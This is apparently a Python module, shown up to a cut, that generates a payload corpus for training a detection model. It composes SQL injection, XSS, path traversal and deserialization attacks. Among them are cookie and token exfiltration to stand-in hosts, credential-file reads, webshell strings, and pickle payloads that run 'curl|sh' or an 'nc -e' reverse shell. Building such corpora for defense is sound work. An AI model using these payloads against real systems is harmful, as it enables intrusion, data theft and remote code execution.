"""Grammar-based attack generators: many small parts combined, so the model learns the parts.

Where `attacks.gen_*` holds a few hand-written vectors per family, these compose contexts
(how a payload breaks out of the value it is placed in), cores (what it does) and terminators,
then obfuscate (case, whitespace and comment tricks, encodings). Every payload is drawn from a
seeded `random.Random`, so the same seed gives the same corpus.
"""

from __future__ import annotations

import random

from attacks import Payload, _rs

# ------------------------------------------------------------------------------------------ SQL


def _case(rng: random.Random, s: str) -> str:
    r = rng.random()
    if r < 0.45:
        return s
    if r < 0.75:
        return s.lower()
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def _sql_space(rng: random.Random, s: str) -> str:
    r = rng.random()
    if r < 0.7:
        return s
    sp = rng.choice(["/**/", "\t", "\n", "+", "%20", "%09", "%0a", "/*x*/", "  ", "\r\n", "%a0", "/*!*/"])
    return s.replace(" ", sp)


_SQL_OPERANDS = [
    "1=1", "0=0", "2>1", "1<2", "1<>2", "1!=2", "3=3", "1 like 1", "1 in (1)", "1 between 0 and 2",
    "true", "not false", "1 is not null", "'a'='a'", "'1'='1'", "'x'<>'y'", "\"a\"=\"a\"", "'a' like 'a'",
    "1 rlike 1", "(select 1)=1", "exists(select 1)", "(EXISTS)", "username like '%'", "userid like '%",
    "uid like '%", "name is not null", "1", "'1'", "ascii('a')=97", "len('a')=1", "char(49)=char(49)",
    "0x31=0x31", "@@version is not null", "user() like '%'", "'a'||'b'='ab'",
]
_SQL_SELECT_COLS = ["NULL", "1", "2", "@@version", "user()", "database()", "version()", "current_user",
                    "username", "password", "table_name", "column_name", "group_concat(username,0x3a,password)",
                    "concat(user(),0x3a,database())", "banner", "name", "load_file('/etc/passwd')", "'a'", "char(65)"]
_SQL_FROM = ["", " FROM users", " FROM information_schema.tables", " FROM information_schema.columns",
             " FROM mysql.user", " FROM dual", " FROM v$version", " FROM sqlite_master", " FROM pg_shadow",
             " FROM sysobjects", " FROM master..sysdatabases", " FROM accounts WHERE 1=1", " FROM admin"]
_SQL_STACKED = [
    "DROP TABLE users", "DROP DATABASE app", "TRUNCATE TABLE logs", "DELETE FROM users", "SHUTDOWN",
    "INSERT INTO users(name,role) VALUES('x','admin')", "UPDATE users SET password='x' WHERE 1=1",
    "UPDATE users SET role='admin' WHERE name='{u}'", "EXEC master..xp_cmdshell 'whoami'",
    "exec master..xp_cmdshell", "exec xp_regread", "EXEC xp_dirtree '\\\\{h}\\a'", "EXEC sp_configure 'show advanced options',1",
    "exec sp_executesql N'select 1'", "DECLARE @q VARCHAR(99);SET @q='x';EXEC(@q)", "CREATE USER x IDENTIFIED BY 'x'",
    "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'", "ALTER USER sa WITH PASSWORD='x'", "SELECT pg_sleep(5)",
    "COPY (SELECT '') TO PROGRAM 'id'", "SELECT * INTO OUTFILE '/var/www/x.php' FROM users",
    "LOAD DATA INFILE '/etc/passwd' INTO TABLE x", "CREATE TABLE x(a text)", "WAITFOR DELAY '0:0:5'",
    "SELECT load_extension('x')", "ATTACH DATABASE '/var/www/x.php' AS x", "SET GLOBAL general_log=1",
    "select top 1 name from sysobjects", "select @@version", "select * from users",
]
_SQL_TIME = ["SLEEP({n})", "sleep({n})", "BENCHMARK({m},MD5(1))", "pg_sleep({n})", "(SELECT 1 FROM (SELECT SLEEP({n}))a)",
             "DBMS_LOCK.SLEEP({n})", "DBMS_PIPE.RECEIVE_MESSAGE('a',{n})", "randomblob({m}00)",
             "(SELECT COUNT(*) FROM generate_series(1,{m}))", "1=(SELECT 1 FROM PG_SLEEP({n}))", "IF(1=1,SLEEP({n}),0)"]
_SQL_ERROR = ["extractvalue(1,concat(0x7e,version()))", "updatexml(1,concat(0x7e,user()),1)", "1=CONVERT(int,@@version)",
              "1=CAST((SELECT version()) AS int)", "exp(~(select * from (select user())a))",
              "(SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
              "geometrycollection((select * from(select * from(select user())a)b))", "ctxsys.drithsx.sn(1,(select user from dual))=1",
              "1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))", "json_keys((select convert((select version()) using utf8)))",
              "1=(select 1/0)", "cast(version() as numeric)"]
_SQL_OOB = ["||UTL_HTTP.REQUEST('http://{h}/'||user)", "||UTL_HTTP.REQUEST", "UTL_INADDR.get_host_address('{h}')",
            "DBMS_LDAP.INIT(('{h}'),80)", "load_file(concat('\\\\\\\\',version(),'.{h}\\\\a'))", "master..xp_dirtree '\\\\{h}\\a'",
            "(select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://{h}/\">%x;]>'),'/l') from dual)",
            "char(39)+@@version", "0x{hex}", "concat(0x{hex},user())", "char({c})", "chr({c})||chr({c})"]
_SQL_BLIND = ["ascii(substring((select user()),{i},1))>{c}", "substr((select password from users limit 1),{i},1)='a'",
              "(select count(*) from users)>0", "length(database())>{i}", "mid(version(),1,1)='5'",
              "(select top 1 name from sysobjects)>0", "ord(mid((select ifnull(cast(username as char),0x20) from users limit 0,1),{i},1))>{c}",
              "1=(select 1 from dual where 1=1)", "exists(select * from users)", "{i}=(select {i})"]
_SQL_TAIL = ["ORDER BY {i}", "ORDER BY {i}--", "GROUP BY 1 HAVING 1=1", "ORDER BY (SELECT 1)", "PROCEDURE ANALYSE()",
             "LIMIT 1 OFFSET 1", "GROUP BY CONCAT(version(),FLOOR(RAND(0)*2))", "ORDER BY 1,2,3,SLEEP(5)", "HAVING 1=1"]
_SQL_CONTEXTS = [("'", "'"), ('"', '"'), ("')", "'"), ("'))", "'"), ('")', '"'), ("", ""), ("1", ""), ("-1", ""), ("0", ""),
                 ("1)", ""), ("1))", ""), ("admin'", "'"), ("x'", "'"), ("hi'", "'"), ("abc\"", '"'), ("%'", "'"),
                 ("{v}'", "'"), ("{v}\"", '"'), ("`", "`"), ("1'", "'"), ("'+", "'"), ("99999", ""), ("'=''", "'")]
_SQL_TERMS = ["", "", " --", " -- -", "--", "#", " #", "/*", ";--", ";", " --+", "%00", ";%00", "-- x", "`", "'", " or '"]


def _sql_fill(rng: random.Random, s: str) -> str:
    return (s.replace("{n}", str(rng.choice([1, 2, 3, 5, 7, 10, 15, 20])))
             .replace("{m}", str(rng.choice([5000000, 10000000, 1000000, 99999])))
             .replace("{i}", str(rng.randint(1, 12)))
             .replace("{c}", str(rng.randint(32, 126)))
             .replace("{hex}", "".join(f"{ord(ch):02x}" for ch in rng.choice(["admin", "root", "x", "test", "passwd"])))
             .replace("{h}", rng.choice([f"{_rs(rng, 6)}.oast.example", "attacker.example", "10.0.0.9", "x.burpcollaborator.net"]))
             .replace("{u}", rng.choice(["admin", "root", "alice"]))
             .replace("{v}", rng.choice(["alice", "john", "test", "1", "bob@example.com", "12", "admin"])))


def gen_sqli(rng: random.Random, n: int) -> list[Payload]:
    fams = ["tautology", "union", "stacked", "time", "error", "oob", "blind", "tail", "fragment"]
    out = []
    for i in range(n):
        fam = fams[i % len(fams)]
        pre, q = rng.choice(_SQL_CONTEXTS)
        conj = rng.choice(["OR", "OR", "AND", "||", "&&", "XOR", "or", "and"])
        if fam == "tautology":
            opnd = rng.choice(_SQL_OPERANDS)
            if q and rng.random() < 0.5:  # balance the trailing quote instead of commenting it out
                core, term = f"{conj} {q}a{q}={q}a", ""
            else:
                core, term = f"{conj} {opnd}", rng.choice(_SQL_TERMS)
        elif fam == "union":
            cols = ",".join(rng.choice(_SQL_SELECT_COLS) for _ in range(rng.randint(1, 6)))
            core = f"UNION {rng.choice(['', 'ALL ', 'DISTINCT ', 'ALL '])}SELECT {cols}{rng.choice(_SQL_FROM)}"
            if rng.random() < 0.15:
                core = rng.choice(["UNION SELECT", "UNION ALL SELECT", "union select", "/*!50000UNION*/ /*!50000SELECT*/ 1,2",
                                   "UNION(SELECT(1),(2))", "UNI/**/ON SEL/**/ECT 1", "union distinctrow select 1"])
            term = rng.choice(_SQL_TERMS)
        elif fam == "stacked":
            core, term = ";" + rng.choice(["", " "]) + rng.choice(_SQL_STACKED), rng.choice(_SQL_TERMS)
        elif fam == "time":
            core, term = f"{conj} {rng.choice(_SQL_TIME)}", rng.choice(_SQL_TERMS)
            if rng.random() < 0.25:
                core = "; WAITFOR DELAY '0:0:%d'" % rng.randint(2, 9)
        elif fam == "error":
            core, term = f"{conj} {rng.choice(_SQL_ERROR)}", rng.choice(_SQL_TERMS)
        elif fam == "oob":
            core, term = rng.choice(_SQL_OOB), rng.choice(_SQL_TERMS)
            if not core.startswith("||"):
                core = f"{rng.choice(['AND', 'OR', ';', '+', 'UNION SELECT', ''])} {core}"
        elif fam == "blind":
            core, term = f"{conj} {rng.choice(_SQL_BLIND)}", rng.choice(_SQL_TERMS)
        elif fam == "tail":
            core, term = rng.choice(_SQL_TAIL), rng.choice(_SQL_TERMS)
        else:  # short fragments fuzzers send: a break-out plus one keyword or comment
            core = rng.choice(["--", "#", "/*", ";", "or 1--", "' or ''='", "or 0=0 --", "or 0=0 #", "' or 1 --",
                               "or true--", "' --", "'--", "')--", "'#", "\"#", "' and 'x'='x", "or 'x'='x",
                               "') or ('a'='a", "\" or \"a\"=\"a", "' or (EXISTS)", "'; exec master..xp_cmdshell",
                               "' (select top 1", "' group by userid having 1=1--", "' union select", "'||'",
                               "' or username is not null or username = '", "1 or 1=1", "0 or 1=1", "a' or 1=1--",
                               "'; drop table users--", "1;select *", "1; select pg_sleep(5)"])
            term = ""
        pre = _sql_fill(rng, pre)
        core = _sql_space(rng, _case(rng, _sql_fill(rng, core)))
        s = f"{pre} {core}{term}" if pre and not pre.endswith(("'", '"', ")", "`")) else f"{pre}{rng.choice(['', ' '])}{core}{term}"
        out.append(Payload("sqli", s.strip() or core, "gen", f"sqli-{fam}"))
    return out


# ------------------------------------------------------------------------------------------ XSS

_XSS_TAGS = ["img", "svg", "body", "iframe", "input", "details", "video", "audio", "source", "marquee", "object",
             "embed", "a", "div", "x", "math", "select", "textarea", "form", "button", "style", "video", "image",
             "isindex", "keygen", "frameset", "table", "td", "p", "span", "h1", "xss", "animate", "set", "meter",
             "progress", "track", "picture", "dialog", "summary", "template", "slot", "custom-el", "br", "html"]
_XSS_EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart",
               "onpointerenter", "onbegin", "onstart", "onfocusin", "onwheel", "onscroll", "onpageshow",
               "onhashchange", "onbeforeprint", "oncopy", "onpaste", "oninput", "onchange", "onauxclick",
               "ondrag", "onmouseenter", "onpointerdown", "onkeydown", "onkeyup", "onblur", "onresize",
               "onmessage", "onpopstate", "ontransitionend", "onanimationend", "onsearch", "oncontextmenu",
               "ondblclick", "onmousemove", "onselect", "onsubmit", "oninvalid", "onplay", "onloadstart",
               "onbeforetoggle", "onfocusout", "onpointerover", "onunload", "onbeforeunload", "onshow"]
_XSS_JS = ["alert(1)", "alert`1`", "prompt(1)", "confirm(1)", "alert(document.domain)", "alert(document.cookie)",
           "print()", "eval(atob('YWxlcnQoMSk='))", "fetch('//{h}/?c='+document.cookie)", "top['al'+'ert'](1)",
           "window['alert'](1)", "(alert)(1)", "alert.call(null,1)", "alert.apply(null,[1])", "[1].find(alert)",
           "setTimeout('alert(1)')", "Function('alert(1)')()", "new Image().src='//{h}/?'+document.cookie",
           "location='javascript:alert(1)'", "document.write('<img src=//{h}>')", "import('//{h}/x.js')",
           "navigator.sendBeacon('//{h}',localStorage.token)", "self[atob('YWxlcnQ=')](1)", "constructor.constructor('alert(1)')()",
           "location.href='//{h}/'+document.cookie", "alert(String.fromCharCode(88,83,83))", "throw onerror=alert,1",
           "{valueOf:alert}+1", "x=document.createElement('script');x.src='//{h}';document.body.appendChild(x)"]
_XSS_BREAKS = ["", "", "\">", "'>", ">", "</title>", "</textarea>", "</script>", "\"/>", "--></", "]]>", "</style>",
               "'\"><", "\" ", "' ", "</noscript>", "</iframe>", "<!--"]


def gen_xss(rng: random.Random, n: int) -> list[Payload]:
    fams = ["event", "script", "uri", "attr", "jsctx", "css", "meta", "csti", "encoded"]
    out = []
    for i in range(n):
        fam = fams[i % len(fams)]
        js = _sql_fill(rng, rng.choice(_XSS_JS))
        brk = rng.choice(_XSS_BREAKS)
        if fam == "event":
            tag, ev = rng.choice(_XSS_TAGS), rng.choice(_XSS_EVENTS)
            sep = rng.choice([" ", "/", "\n", "\t", "/x/", " x "])
            attr = rng.choice(["", " src=x", " src=1", " autofocus", " open", " tabindex=1", " id=x", " style=animation-name:x",
                               " href=#", " popover"])
            qv = rng.choice(['"{}"', "'{}'", "{}", "`{}`"]).format(js)
            s = f"{brk}<{tag}{attr}{sep}{ev}={qv}>" + rng.choice(["", "", f"</{tag}>", "x", "//"])
        elif fam == "script":
            s = rng.choice([f"<script>{js}</script>", f"<script src=//{_sql_fill(rng, '{h}')}/x.js></script>",
                            f"<ScRiPt>{js}</sCrIpT>", f"<script>{js}//", f"<script type=module>{js}</script>",
                            f"<script\n>{js}</script\n>", f"<scr<script>ipt>{js}</scr</script>ipt>"])
            s = brk + s
        elif fam == "uri":
            scheme = rng.choice(["javascript:", "JaVaScRiPt:", "javascript&colon;", "jav&#x09;ascript:", "java\tscript:",
                                 "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                                 "vbscript:", "&#106;avascript:"])
            body = js if scheme.endswith(":") else ""
            tag = rng.choice(["<a href=\"{}\">x</a>", "<iframe src=\"{}\">", "<form action=\"{}\"><button>x", "<object data=\"{}\">",
                              "<embed src=\"{}\">", "{}", "{}", "<math><maction actiontype=statusline xlink:href=\"{}\">x</maction>",
                              "<base href=\"{}//\">", "<link rel=import href=\"{}\">", "<svg><a xlink:href=\"{}\"><text>x</text></a>"])
            s = brk + tag.format(scheme + body)
        elif fam == "attr":
            q = rng.choice(['"', "'", ""])
            s = f"{q} {rng.choice(_XSS_EVENTS)}={q}{js}{q}" + rng.choice(["", f" x={q}", " //", f" autofocus {q}"])
        elif fam == "jsctx":
            q = rng.choice(["'", '"', "`", ""])
            s = rng.choice([f"{q};{js}//", f"{q}-{js}-{q}", f"{q}+{js}+{q}", f"\\{q};{js}//", f"{q}}};{js};//",
                            f"</script><script>{js}</script>", f"${{{js}}}", f"{q});{js};({q}", f"{q}*/{js}/*"])
        elif fam == "css":
            s = rng.choice(["<style>@import'//{h}/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">",
                            "<style>*{{x:expression(alert(1))}}</style>", "<div style=\"width:expression(alert(1))\">",
                            "behavior: url(xss.htc);", "<style>body{{-moz-binding:url(//{h}/x.xml#x)}}</style>",
                            "<link rel=stylesheet href=//{h}/x.css>", "x:expression(alert(1))",
                            "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart=alert(1)>"])
            s = brk + _sql_fill(rng, s.replace("{{", "{").replace("}}", "}"))
        elif fam == "meta":
            s = rng.choice(["<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                            "<meta http-equiv=\"refresh\" content=\"0;url=//{h}/\">", "<base href=\"//{h}/\">", "<base target=\"",
                            "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
                            "<meta http-equiv=\"set-cookie\" content=\"s=x\">", "<head><title>XSS</title></head>",
                            "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=\"//{h}/x.swf\">",
                            "<svg><use href=\"//{h}/x.svg#a\"/></svg>", "<portal src=//{h}>", "<frameset onload=alert(1)>"])
            s = brk + _sql_fill(rng, s)
        elif fam == "csti":
            s = rng.choice(["{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}",
                            "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>", "[[constructor.constructor('alert(1)')()]]",
                            "{{_openBlock.constructor('alert(1)')()}}", "<div v-html=\"'<img src=x onerror=alert(1)>'\">",
                            "''.constructor.constructor('alert(1)')()", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}"])
        else:
            base = rng.choice([f"<img src=x onerror={js}>", f"<svg onload={js}>", f"<script>{js}</script>"])
            enc = rng.choice(["html", "hex", "unicode", "double"])
            if enc == "html":
                s = "".join(f"&#{ord(c)};" if c in "<>\"'()" else c for c in base)
            elif enc == "hex":
                s = "".join(f"&#x{ord(c):x};" if rng.random() < 0.4 else c for c in base)
            elif enc == "unicode":
                s = "".join(f"\\u{ord(c):04x}" if c in "<>" else c for c in base)
            else:
                s = base.replace("<", "%253C").replace(">", "%253E")
        out.append(Payload("xss", s, "gen", f"xss-{fam}"))
    return out


# ------------------------------------------------------------------------------ path traversal

_WIN_TARGETS = ["windows\\win.ini", "windows\\system32\\drivers\\etc\\hosts", "windows\\system32\\drivers\\etc\\services",
                "boot.ini", "inetpub\\wwwroot\\web.config", "inetpub\\wwwroot\\global.asa", "windows\\repair\\sam",
                "windows\\system32\\config\\sam", "windows\\panther\\unattend.xml", "program files\\app\\config.ini",
                "progra~1\\app\\web.config", "windows\\debug\\netsetup.log", "xampp\\apache\\conf\\httpd.conf",
                "users\\administrator\\ntuser.dat", "windows\\system.ini"]
_PHP_FILTERS = ["convert.base64-encode", "string.rot13", "convert.iconv.UTF8.UTF7", "convert.base64-decode",
                "string.toupper", "convert.quoted-printable-encode", "zlib.deflate", "convert.iconv.UTF8.CSISO2022KR",
                "convert.iconv.UTF8.UTF16", "string.strip_tags"]


def gen_traversal(rng: random.Random, n: int, unix_files: list[str]) -> list[Payload]:
    files = [f.lstrip("/") for f in unix_files if "/" in f and len(f) > 4][:300] or ["etc/passwd"]
    files += ["etc/passwd", "etc/shadow", "etc/services", "etc/hosts", "proc/self/environ", "proc/self/cmdline",
              "proc/self/fd/0", "proc/1/maps", "root/.ssh/id_rsa", "root/.bash_history", "var/log/nginx/access.log",
              "var/run/secrets/kubernetes.io/serviceaccount/token", "home/app/.aws/credentials", "etc/ssh/sshd_config"]
    app_files = ["config.php", "wp-config.php", ".env", ".git/config", "web.config", "WEB-INF/web.xml",
                 "application.properties", "settings.py", "app.log", "index.php", "database.yml", "id_rsa",
                 f"{_rs(rng, 6)}.txt", "config/secrets.yml", "package.json", ".htpasswd", "server.key"]
    fams = ["unix-rel", "win-rel", "unix-abs", "win-abs", "wrapper", "app-rel", "ads-unc", "encoded"]
    out = []
    for i in range(n):
        fam = fams[i % len(fams)]
        d = rng.randint(1, 12)
        if fam == "unix-rel":
            up = rng.choice(["../", "..//", "....//", "..;/", "..%2f", "%2e%2e/", "%2e%2e%2f", ".%2e/", "..%252f", "..%c0%af",
                             "..%ef%bc%8f", "..\\/", "/..", ".../"])
            s = rng.choice(["", "", "/", "./", "images/", "static/", "files/", "uploads/x/"]) + up * d + rng.choice(files)
        elif fam == "win-rel":
            up = rng.choice(["..\\", "..%5c", "..%255c", "..\\\\", "..%c1%9c", "..%u005c", "../"])
            s = up * d + rng.choice(_WIN_TARGETS).replace("\\", rng.choice(["\\", "/", "%5c"]))
        elif fam == "unix-abs":
            s = "/" + rng.choice(files)
            if rng.random() < 0.3:
                s = rng.choice(["file://", "file:///", "//", "/./", "/var/www/../.."]) + s.lstrip("/") if rng.random() < 0.5 else "/" + s.lstrip("/").replace("/", rng.choice(["//", "/./"]))
        elif fam == "win-abs":
            drive = rng.choice(["C:", "c:", "D:", "C:", "\\\\?\\C:", "file:///C:"])
            s = drive + rng.choice(["\\", "/"]) + rng.choice(_WIN_TARGETS).replace("\\", rng.choice(["\\", "/"]))
        elif fam == "wrapper":
            chain = "|".join(rng.choice(_PHP_FILTERS) for _ in range(rng.randint(1, 8)))
            tgt = rng.choice(["index.php", "config.php", "/etc/passwd", "../config/db.php", "php://temp", "admin.php"])
            s = rng.choice([f"php://filter/{chain}/resource={tgt}", f"php://filter/read={chain}/resource={tgt}",
                            f"php://filter/resource={tgt}", "php://input", "php://stdin", "php://fd/3",
                            f"data://text/plain;base64,{rng.choice(['PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+', 'PD9waHAgcGhwaW5mbygpOz8+'])}",
                            "data:text/plain,<?php phpinfo();?>", f"zip://uploads/{_rs(rng, 5)}.zip%23shell.php",
                            f"phar://uploads/{_rs(rng, 5)}.jpg/x", "expect://id", "expect://ls", "glob:///var/www/*",
                            "jar:file:///tmp/x.jar!/a.class", "netdoc:///etc/passwd", "file:///etc/passwd", "compress.zlib:///etc/passwd"])
        elif fam == "app-rel":
            s = rng.choice(["../", "../../", "..\\", "./../", "%2e%2e/", "../" * d]) + rng.choice(app_files)
            s = rng.choice(["", "", "templates/", "lang/", "/static/"]) + s
        elif fam == "ads-unc":
            s = rng.choice([f"index.php::$DATA", f"web.config::$DATA", f"C:\\{rng.choice(_WIN_TARGETS)}::$DATA",
                            f"\\\\{rng.choice(['attacker', '10.0.0.9', 'x.oast.example'])}\\share\\{_rs(rng, 4)}",
                            f"//{rng.choice(['attacker', '10.0.0.9'])}/share/x", "\\\\localhost\\c$\\windows\\win.ini",
                            "default.asp::$DATA", "file.php%00.jpg", f"../../etc/passwd%00.{rng.choice(['png', 'pdf', 'jpg'])}",
                            "/etc/passwd\x00.html", "....\\\\....\\\\windows\\\\win.ini"])
        else:
            base = "../" * d + rng.choice(files)
            enc = rng.choice(["pct", "dbl", "utf8", "mixed"])
            if enc == "pct":
                s = base.replace(".", "%2e").replace("/", "%2f")
            elif enc == "dbl":
                s = base.replace(".", "%252e").replace("/", "%252f")
            elif enc == "utf8":
                s = base.replace("/", "%c0%af").replace(".", rng.choice([".", "%c0%ae"]))
            else:
                s = "".join(rng.choice([c, f"%{ord(c):02x}"]) if c in "./" else c for c in base)
        if rng.random() < 0.08:
            s += rng.choice(["%00", "%00.png", "?", "#", "%20"])
        out.append(Payload("path_traversal", s, "gen", f"trav-{fam}", "file"))
    return out


# ----------------------------------------------------------------------------- deserialization

_JAVA_GADGETS = ["com.sun.rowset.JdbcRowSetImpl", "java.net.Inet4Address", "java.net.Inet6Address", "java.net.URL",
                 "org.apache.tomcat.dbcp.dbcp2.BasicDataSource", "org.apache.ibatis.datasource.jndi.JndiDataSourceFactory",
                 "org.springframework.context.support.ClassPathXmlApplicationContext", "ch.qos.logback.core.db.JNDIConnectionSource",
                 "com.zaxxer.hikari.HikariConfig", "org.apache.xbean.propertyeditor.JndiConverter", "java.lang.AutoCloseable",
                 "org.apache.commons.configuration.JNDIConfiguration", "com.mchange.v2.c3p0.JndiRefForwardingDataSource",
                 "org.apache.shiro.jndi.JndiObjectFactory", "com.alibaba.fastjson.JSONObject", "java.lang.Class",
                 "org.apache.commons.collections.functors.InvokerTransformer", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"]
_DOTNET_GADGETS = ["System.Windows.Data.ObjectDataProvider, PresentationFramework", "System.Diagnostics.Process, System",
                   "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install",
                   "System.Web.Security.RolePrincipal, System.Web", "System.Security.Principal.WindowsIdentity, mscorlib",
                   "Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties, Microsoft.PowerShell.Editor",
                   "System.Data.Services.Internal.ExpandedWrapper`2, System.Data.Services",
                   "System.IO.FileSystemInfo, mscorlib", "System.Windows.Forms.BindingSource, System.Windows.Forms"]
_PHP_CLASSES = ["Monolog\\Handler\\SyslogUdpHandler", "GuzzleHttp\\Cookie\\FileCookieJar", "Illuminate\\Broadcasting\\PendingBroadcast",
                "Symfony\\Component\\Process\\Process", "Laminas\\Log\\Logger", "Swift_ByteStream_TemporaryFileByteStream",
                "Requests_Utility_FilteredIterator", "Zend_Log", "yii\\db\\BatchQueryResult", "stdClass", "User", "Config", "Logger"]


def _php_value(rng: random.Random, depth: int = 0) -> str:
    r = rng.random()
    if r < 0.4 or depth > 1:
        v = rng.choice(["/etc/passwd", "system", "id", "<?php system($_GET['c']); ?>", "phpinfo", "/var/www/html/x.php", "1"])
        return f's:{len(v)}:"{v}";'
    if r < 0.6:
        return f"i:{rng.randint(0, 99)};"
    if r < 0.7:
        return "b:1;"
    cls = rng.choice(_PHP_CLASSES)
    return f'O:{len(cls)}:"{cls}":1:{{s:4:"data";{_php_value(rng, depth + 1)}}}'


def _xaml_provider(rng: random.Random) -> str:
    """A XAML ObjectDataProvider gadget (what ysoserial.net's XAML formatter emits) with varied
    method and arguments, so that the family reaches every split rather than one fixed string."""
    method = rng.choice(["Start", "Start", "Parse", "Load"])
    cmd = rng.choice(["cmd", "calc", "powershell", "mshta"])
    arg = rng.choice(["", "/c whoami", "-c id", "http://attacker.example/x.hta"])
    ns = rng.choice(['xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"',
                     'xmlns:System="clr-namespace:System;assembly=mscorlib"'])
    params = f"<System:String>{cmd}</System:String>" + (f"<System:String>{arg}</System:String>" if arg else "")
    return (f'<ObjectDataProvider MethodName="{method}" {ns}><ObjectDataProvider.MethodParameters>{params}'
            "</ObjectDataProvider.MethodParameters></ObjectDataProvider>")


def _prototype_pollution(rng: random.Random) -> str:
    """JavaScript prototype pollution in the shapes parsers merge: JSON `__proto__` or
    `constructor.prototype` objects (nested or not) and bracket or dotted form keys."""
    prop = rng.choice(["isAdmin", "admin", "role", "polluted", "toString", "debug", "allowed", "shell", "outputFunctionName"])
    val = rng.choice(["true", "1", '"admin"', '"x"'])
    form_val = val.strip('"')
    return rng.choice([
        f'{{"__proto__":{{"{prop}":{val}}}}}',
        f'{{"constructor":{{"prototype":{{"{prop}":{val}}}}}}}',
        f'{{"{_rs(rng, 3)}":{{"__proto__":{{"{prop}":{val}}}}}}}',
        f"__proto__[{prop}]={form_val}",
        f"constructor[prototype][{prop}]={form_val}",
        f"__proto__.{prop}={form_val}",
    ])


def gen_deser(rng: random.Random, n: int, java_classes: list[str]) -> list[Payload]:
    import base64
    jcls = _JAVA_GADGETS + [c for c in java_classes if c.count(".") >= 2][:200]
    fams = ["fastjson", "jackson", "dotnet", "java-bin", "php", "pickle", "yaml", "node"]
    out = []
    for i in range(n):
        fam = fams[i % len(fams)]
        host = rng.choice([f"{_rs(rng, 6)}.dnslog.example", "attacker.example:1389/a", "10.0.0.9:1099/Exploit", f"{_rs(rng, 5)}.oast.example"])
        if fam == "fastjson":
            cls = rng.choice(jcls)
            prop = rng.choice([f'"dataSourceName":"ldap://{host}","autoCommit":true', f'"val":"{host}"', f'"asText":"rmi://{host}"',
                               f'"configLocation":"http://{host}/x.xml"', '"_bytecodes":["yv66vgAAADQ"],"_name":"a","_tfactory":{}',
                               f'"properties":{{"data_source":"ldap://{host}"}}', f'"jndiName":"ldap://{host}"'])
            s = f'{{"@type":"{cls}",{prop}}}'
            if rng.random() < 0.3:
                s = f'{{"{_rs(rng, 3)}":{s}}}'
            if rng.random() < 0.2:
                s = s.replace('"@type"', rng.choice(['"\\u0040type"', '"@\\x74ype"', '"@type"']))
        elif fam == "jackson":
            cls = rng.choice(jcls)
            s = rng.choice([f'["{cls}",{{"dataSourceName":"ldap://{host}","autoCommit":true}}]', f'["{cls}","ldap://{host}"]',
                            f'{{"object":["{cls}",{{"jndiName":"rmi://{host}"}}]}}', f'{{"@class":"{cls}","url":"ldap://{host}"}}'])
        elif fam == "dotnet":
            cls = rng.choice(_DOTNET_GADGETS)
            s = rng.choice([f'{{"$type":"{cls}","MethodName":"Start","ObjectInstance":{{"$type":"System.Diagnostics.Process, System"}}}}',
                            f'{{"$type":"{cls}","Path":"file:///c:/x.dll"}}', f'{{"$type":"{cls}"}}',
                            "AAEAAAD/////AQAAAAAAAAAMAgAAA" + base64.b64encode(bytes(rng.getrandbits(8) for _ in range(rng.randint(30, 90)))).decode(),
                            _xaml_provider(rng)])
        elif fam == "java-bin":
            cls = rng.choice(jcls).encode()
            raw = b"\xac\xed\x00\x05" + rng.choice([b"sr\x00", b"sr\x00", b"ur\x00", b"sq\x00"]) + len(cls).to_bytes(1, "big") + cls + bytes(rng.getrandbits(8) for _ in range(rng.randint(16, 160)))
            enc = rng.choice(["b64", "b64", "hex", "b64url", "gzip"])
            if enc == "gzip":
                import gzip
                s = base64.b64encode(gzip.compress(raw, mtime=0)).decode()
            elif enc == "hex":
                s = raw.hex()
            else:
                s = (base64.urlsafe_b64encode if enc == "b64url" else base64.b64encode)(raw).decode()
        elif fam == "php":
            cls = rng.choice(_PHP_CLASSES)
            k = rng.randint(1, 3)
            body = "".join(f's:{len(f)}:"{f}";{_php_value(rng)}' for f in rng.sample(["file", "cmd", "events", "handler", "data", "path", "x"], k))
            s = rng.choice([f'O:{len(cls)}:"{cls}":{k}:{{{body}}}', f'a:1:{{i:0;O:{len(cls)}:"{cls}":{k}:{{{body}}}}}',
                            f'C:{len(cls)}:"{cls}":{len(body)}:{{{body}}}'])
            if rng.random() < 0.35:
                s = base64.b64encode(s.encode()).decode()
        elif fam == "pickle":
            cmd = rng.choice(["id", "touch /tmp/pwn", "curl x.example|sh", "whoami", "nc -e /bin/sh 10.0.0.9 4444"])
            mod = rng.choice([("os", "system"), ("posix", "system"), ("subprocess", "check_output"), ("builtins", "eval"), ("__builtin__", "eval")])
            r = rng.random()
            if r < 0.4:
                raw = f"c{mod[0]}\n{mod[1]}\n(S'{cmd}'\ntR.".encode()
            else:
                raw = (b"\x80" + bytes([rng.choice([2, 3, 4, 5])]) + b"\x95" + bytes([len(cmd) + 30]) + b"\x00" * 7 + b"\x8c" + bytes([len(mod[0])])
                       + mod[0].encode() + b"\x94\x8c" + bytes([len(mod[1])]) + mod[1].encode() + b"\x94\x93\x94\x8c" + bytes([len(cmd)]) + cmd.encode() + b"\x94\x85\x94R\x94.")
            s = base64.b64encode(raw).decode() if rng.random() < 0.8 else raw.decode("latin-1")
        elif fam == "yaml":
